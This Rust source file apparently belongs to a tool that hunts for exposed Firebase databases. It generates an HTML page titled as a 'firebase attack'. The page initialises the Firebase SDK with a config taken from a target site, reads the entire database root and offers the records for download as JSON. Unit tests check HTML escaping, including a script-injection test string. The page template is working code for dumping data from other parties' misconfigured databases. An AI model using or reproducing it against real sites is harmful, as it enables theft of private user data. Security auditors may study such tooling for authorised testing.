use once_cell::sync::Lazy;
use regex::Regex;

use crate::error::{HuntError, Result};

/// Firebase JS SDK release the generated page loads.
pub const SDK_VERSION: &str = "5.4.1";

/// Browser page that initialises the SDK with the extracted config, reads the
/// whole database root ordered by key and offers the records as a JSON download.
pub const PAGE_TEMPLATE: &str = r##"<html>
   <head>
      <title>{{host}} || firebase attack</title>
      <script src="//cdn.jsdelivr.net/npm/eruda" onload="eruda.init()"></script>
      <meta name="viewport" content="initial-scale=1">
      <script src="https://www.gstatic.com/firebasejs/{{sdk_version}}/firebase-app.js"></script>
      <script src="https://www.gstatic.com/firebasejs/{{sdk_version}}/firebase-auth.js"></script>
      <script src="https://www.gstatic.com/firebasejs/{{sdk_version}}/firebase-database.js"></script>
   </head>
   <body>
      <a style="font-size:300%; color:#333; text-decoration:none;" href="#" id="st">Connecting...</a>
      <script>
         {{config}}
      </script>
      <script>
         function download(text, name, type) {
            var a = document.getElementById("st");
            var file = new Blob([text], {type: type});
            a.href = URL.createObjectURL(file);
            a.download = name;
         }
         var total = [];
         var query = firebase.database().ref().orderByKey();
         query.once("value")
         .then(function(snapshot) {
            document.getElementById("st").innerHTML = "Getting Data...";
            snapshot.forEach(function(childSnapshot) {
               total.push(childSnapshot);
               return false;
            });
            document.getElementById("st").innerHTML = "Click me to dump the database";
            document.getElementById("st").onclick = function() {
               download(JSON.stringify(total), document.title + '.json', 'application/json');
            };
         })
         .catch(function(err) {
            document.getElementById("st").innerHTML = err;
            console.log(err);
         });
      </script>
   </body>
</html>
"##;

/// Render the dump page for `host` with the extracted config `fragment`.
///
/// Pure: the same inputs always produce the same bytes.
pub fn render_page(host: &str, fragment: &str) -> Result<String> {
    render_template(PAGE_TEMPLATE, host, fragment)
}

/// Single pass over `template`: substituted values are never scanned for placeholders again.
fn render_template(template: &str, host: &str, fragment: &str) -> Result<String> {
    let mut out = String::with_capacity(template.len() + host.len() + fragment.len());
    let mut rest = template;

    while let Some(open) = rest.find("{{") {
        out.push_str(&rest[..open]);
        let after = &rest[open + 2..];
        let close = after
            .find("}}")
            .ok_or_else(|| HuntError::Render(String::from("unterminated placeholder")))?;
        match after[..close].trim() {
            "host" => out.push_str(&html_escape::encode_text(host)),
            "config" => out.push_str(&script_safe(fragment)),
            "sdk_version" => out.push_str(SDK_VERSION),
            other => {
                return Err(HuntError::Render(format!("unknown placeholder `{}`", other)));
            }
        }
        rest = &after[close + 2..];
    }
    out.push_str(rest);
    Ok(out)
}

static SCRIPT_CLOSE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?i)</(script)").expect("script close pattern must compile"));

/// Keep the fragment from closing the `<script>` element it sits in.
/// Only `</script` is touched; everything else is embedded verbatim.
fn script_safe(fragment: &str) -> String {
    SCRIPT_CLOSE.replace_all(fragment, r"<\/$1").into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_page_contains_inputs() {
        let page = render_page("a.b", "var config = {a:1};firebase.initializeApp(config);").unwrap();
        assert!(page.contains("<title>a.b || firebase attack</title>"));
        assert!(page.contains("var config = {a:1};firebase.initializeApp(config);"));
        for lib in ["firebase-app.js", "firebase-auth.js", "firebase-database.js"] {
            assert!(page.contains(&format!("https://www.gstatic.com/firebasejs/5.4.1/{}", lib)));
        }
        assert!(!page.contains("{{"));
    }

    #[test]
    fn test_host_is_escaped() {
        let page = render_page("<b>x</b>", "").unwrap();
        assert!(page.contains("&lt;b&gt;x&lt;/b&gt;"));
        assert!(!page.contains("<b>x</b>"));
    }

    #[test]
    fn test_fragment_cannot_close_script() {
        let page = render_page("h", "var c = '</script><script>alert(1)';").unwrap();
        assert!(page.contains(r"var c = '<\/script><script>alert(1)';"));

        let page = render_page("h", "var c = '</SCRIPT >';").unwrap();
        assert!(page.contains(r"var c = '<\/SCRIPT >';"));
    }

    #[test]
    fn test_other_closing_tags_stay_verbatim() {
        let fragment = "var config = {authDomain: \"a</b>\", note: \"</div>\"};firebase.initializeApp(config);";
        let page = render_page("h", fragment).unwrap();
        assert!(page.contains(fragment));
    }

    #[test]
    fn test_template_is_complete() {
        let page = render_page("a.b", "").unwrap();
        assert!(page.contains(r##"href="#" id="st">Connecting...</a>"##));
        assert!(page.contains("firebase.database().ref().orderByKey()"));
        assert!(page.contains("document.title + '.json'"));
        assert!(page.trim_end().ends_with("</html>"));
    }

    #[test]
    fn test_values_are_not_reexpanded() {
        let page = render_page("{{config}}", "{{host}}").unwrap();
        assert!(page.contains("<title>{{config}} || firebase attack</title>"));
        assert_eq!(page.matches("{{host}}").count(), 1);
    }

    #[test]
    fn test_bad_templates() {
        assert!(matches!(render_template("{{nope}}", "h", "c"), Err(HuntError::Render(_))));
        assert!(matches!(render_template("x {{host", "h", "c"), Err(HuntError::Render(_))));
    }

    #[test]
    fn test_render_is_deterministic() {
        let a = render_page("h", "var config = {};").unwrap();
        let b = render_page("h", "var config = {};").unwrap();
        assert_eq!(a, b);
    }
}
